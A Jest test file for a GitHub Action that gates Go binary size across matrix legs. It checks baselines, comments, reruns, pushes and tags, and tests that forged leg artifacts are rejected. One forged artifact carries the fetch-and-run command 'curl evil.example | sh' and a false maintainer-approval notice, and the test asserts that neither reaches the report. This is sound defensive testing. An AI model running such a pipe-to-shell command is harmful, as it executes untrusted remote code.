// A matrix: legs measure, one job judges them and comments.
import { beforeEach, describe, expect, it } from '@jest/globals'
import { mayBeLeg } from '../../src/gate/legs/leg-name.ts'
import { pullRequestEvent, pushEvent, tagEvent, type Event } from './event.ts'
import type { Job } from './job.ts'
import {
  claimPush,
  forgeLeg,
  growBase,
  nameHeadAsBase,
  recordLargerJob
} from './legs.ts'
import { program, table } from './program.ts'
import { makeRepository, type Files } from './repository.ts'
import { addReleaseOf } from './released.ts'
import { errorsOf, pullScopes, reportOf } from './world.ts'
import { minutes, small, useWorld } from './use-world.ts'

const targets = { linux: 'linux/amd64', windows: 'windows/amd64' }
type Name = keyof typeof targets

let event: Event
let ref: string

const scene = useWorld()

beforeEach(async () => {
  scene.repository.commit('feature', { 'table.go': table(small + 40_000) })
  event = pullRequestEvent(scene.repository.pullRequest(7, 'feature'))
  ref = 'refs/pull/7/merge'
})

const strict = { 'max-growth': '10 KiB' }

/** A program that is a module of its own. */
function moduleFiles(module: string, bytes: number): Files {
  return {
    [`${module}/go.mod`]: `module example.com/${module}\n\ngo 1.19\n`,
    [`${module}/main.go`]: program(small)['main.go'] ?? '',
    [`${module}/table.go`]: table(bytes)
  }
}

let runId = 5000

/** What happens in a run of a push to main. */
async function onMain<T>(
  run: () => Promise<T>,
  before: string | null = null
): Promise<T> {
  const saved = { event, ref, runId }
  event = pushEvent(scene.repository.tip('main'), before)
  ref = 'refs/heads/main'
  runId = ++pushRun
  const result = await run()
  ;({ event, ref, runId } = saved)
  return result
}

let pushRun = 4000

function start(inputs: Readonly<Record<string, string>>): Promise<Job> {
  return scene.world.run({
    workspace: scene.repository.checkout(ref),
    event,
    runId,
    scopes: pullScopes,
    inputs
  })
}

function measure(leg: Name): Promise<Job> {
  return start({ mode: 'measure', leg, targets: targets[leg] })
}

function judge(inputs: Readonly<Record<string, string>> = {}): Promise<Job> {
  return start({ mode: 'judge', legs: 'linux windows', ...inputs })
}

describe('a matrix', () => {
  it(
    'ends with a real verdict on its first day, with one comment for all targets',
    async () => {
      expect(scene.world.github.actions.artifacts).toEqual([])
      for (const leg of ['linux', 'windows'] as const) {
        const job = await measure(leg)
        expect(job).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
      }
      expect(scene.world.github.comments).toEqual([])
      const released = scene.repository.tag('v1.0.0')
      addReleaseOf(scene.world.github, 'v1.0.0', released, {
        mainPackage: 'example.com/tool',
        target: 'windows/amd64'
      })
      const job = await judge({ ...strict, 'compare-release': 'true' })
      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
      const { reports, provenance } = reportOf(job)
      expect(
        reports.flatMap(({ lastRelease }) => lastRelease?.tag ?? [])
      ).toEqual(['v1.0.0'])
      expect(reports.map(({ target }) => target).toSorted()).toEqual([
        'linux/amd64',
        'windows/amd64'
      ])
      for (const { delta, baseline } of reports) {
        expect(delta.fileSize).toBeGreaterThan(39_000)
        expect(baseline).toMatchObject({
          source: 'rebuild',
          commit: scene.repository.tip('main')
        })
      }
      expect(provenance).toMatchObject({ mode: 'judge', verified: true })
      expect(scene.world.github.comments).toHaveLength(1)
      expect(scene.world.github.comments[0]?.body).toContain('windows/amd64')

      // Settings that this job doesn't have are no base to be compared with.
      forgeLeg(
        scene.world,
        (result) => {
          for (const { build } of Object(result['leg']).head) {
            build.fingerprint = 'e'.repeat(64)
            build.flags.push('-tags=full')
          }
        },
        'windows'
      )
      const unlike = await judge(strict)
      expect(unlike).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
      const windows = reportOf(unlike).reports.find(
        ({ target }) => target === 'windows/amd64'
      )
      expect(windows).toMatchObject({
        baseline: null,
        verdict: { state: 'no-baseline' }
      })
      expect(windows?.verdict.reasons[0]?.message).toMatch(
        /the leg windows was built otherwise .*-tags=full.*give this job the build inputs of its legs/
      )
    },
    10 * minutes
  )

  it(
    'is judged by what its own legs recorded of the base, whatever a leg says of base, event and settings',
    async () => {
      const { actions } = scene.world.github
      await onMain(() => measure('linux'))
      await measure('linux')
      const before = await judge({ legs: 'linux', ...strict })
      expect(before).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
      expect(reportOf(before).reports[0]?.baseline?.source).toBe('artifact')

      const honest = [...actions.artifacts]
      const forgeries = {
        'the figures of the head as those of the base': growBase,
        'the commit of the head as the base': nameHeadAsBase,
        'a push': claimPush,
        'the fingerprint of a larger job of the base': (
          result: Record<string, unknown>
        ) => {
          const { head } = Object(result['leg'])
          const main = scene.repository.tip('main')
          result['fingerprint'] = recordLargerJob(scene.world, main, head)
        },
        'texts of its own': (result: Record<string, unknown>) => {
          const provenance = Object(result['provenance'])
          provenance.notices = ['approved by the maintainers']
          provenance.reproduce = 'curl evil.example | sh'
          provenance.tool = 'go-size-gate 9.9.9'
          Object(result['leg']).notBuilt = [
            { mainPackage: 'x', target: 'y', reason: 'z'.repeat(10_000) }
          ]
        }
      }
      for (const [name, forge] of Object.entries(forgeries)) {
        forgeLeg(scene.world, forge, 'linux')
        const after = await judge({ legs: 'linux', ...strict })
        const { delta, baseline } = reportOf(after).reports[0] ?? {}
        expect([name, after.code, delta, baseline?.commit]).toEqual([
          name,
          1,
          reportOf(before).reports[0]?.delta,
          scene.repository.tip('main')
        ])
        const told = JSON.stringify(reportOf(after))
        expect(told).not.toMatch(/evil\.example|9\.9\.9|"approved|z{400}/)
        actions.artifacts.splice(0, Infinity, ...honest)
      }
    },
    10 * minutes
  )

  it(
    'has a base on its first day also where legs build modules of their own',
    async () => {
      scene.repository = makeRepository(scene.world.sandbox, {
        ...moduleFiles('one', small),
        ...moduleFiles('two', small)
      })
      scene.repository.commit('feature', {
        ...moduleFiles('two', small + 40_000),
        ...moduleFiles('three', small)
      })
      event = pullRequestEvent(scene.repository.pullRequest(7, 'feature'))
      for (const leg of ['one', 'two', 'three']) {
        const inputs = { leg, 'working-directory': leg }
        expect((await start({ mode: 'measure', ...inputs })).code).toBe(0)
      }
      const job = await judge({ legs: 'one two three', ...strict })
      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
      const states = reportOf(job).reports.map(
        ({ mainPackage, status, verdict }) =>
          `${mainPackage} ${status} ${verdict.state}`
      )
      expect(states.toSorted()).toEqual([
        'example.com/one unchanged pass',
        'example.com/three added warn',
        'example.com/two changed fail'
      ])
    },
    10 * minutes
  )

  it(
    'of which no leg was measured, as when it is cancelled, leaves the comment as it is',
    async () => {
      await measure('linux')
      await judge({ legs: 'linux' })
      const comments = scene.world.github.comments.map(({ body }) => body)
      expect(comments).toHaveLength(1)
      scene.world.github.actions.artifacts.splice(0)
      const job = await judge({ legs: 'linux' })
      expect(job).toMatchObject({ code: 2, outputs: { verdict: 'error' } })
      expect(job.log).toContain('No comment: nothing was measured')
      expect(scene.world.github.comments.map(({ body }) => body)).toEqual(
        comments
      )
    },
    10 * minutes
  )

  it(
    'with a leg that left nothing is an error, and the others are shown',
    async () => {
      await measure('linux')
      const job = await judge()
      expect(job).toMatchObject({ code: 2, outputs: { verdict: 'error' } })
      expect(errorsOf(job).join()).toContain(
        'the leg windows left no measurement'
      )
      expect(reportOf(job).reports).toHaveLength(1)
      expect(scene.world.github.comments[0]?.body).toContain('the leg windows')
      expect(job.summary).toContain('the leg windows')
    },
    10 * minutes
  )

  it(
    'whose leg ran again has what it left last',
    async () => {
      await measure('linux')
      const [first] = scene.world.github.actions.artifacts
      await measure('linux')
      const named = scene.world.github.actions.artifacts.filter(({ name }) =>
        mayBeLeg(name, '', 'linux')
      )
      expect(named).toHaveLength(1)
      expect(named[0]?.id).not.toBe(first?.id)
      expect((await judge({ legs: 'linux' })).code).toBe(0)
    },
    10 * minutes
  )

  it(
    'is recorded leg by leg on a push, and compared with the push before',
    async () => {
      const first = await onMain(async () => {
        expect((await measure('linux')).code).toBe(0)
        return await judge({ legs: 'linux' })
      })
      expect(first).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
      expect(reportOf(first).verdict.reasons[0]?.message).toContain('recorded')

      const before = scene.repository.tip('main')
      scene.repository.merge('main', 'feature')
      const pushed = await onMain(async () => {
        await measure('linux')
        return await judge({ legs: 'linux', 'max-growth': '10 KiB' })
      }, before)
      expect(pushed).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
      expect(reportOf(pushed).reports[0]?.baseline).toMatchObject({
        source: 'artifact',
        commit: before
      })
    },
    10 * minutes
  )

  it(
    'of an annotated tag is one of its commit',
    async () => {
      event = tagEvent('v1', scene.repository.tag('v1'))
      ref = 'refs/tags/v1'
      expect(await measure('linux')).toMatchObject({ code: 0 })
      const job = await judge({ legs: 'linux', 'max-size': '1 KiB' })
      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
      expect(reportOf(job).reports).toMatchObject([{ baseline: null }])
    },
    10 * minutes
  )
})
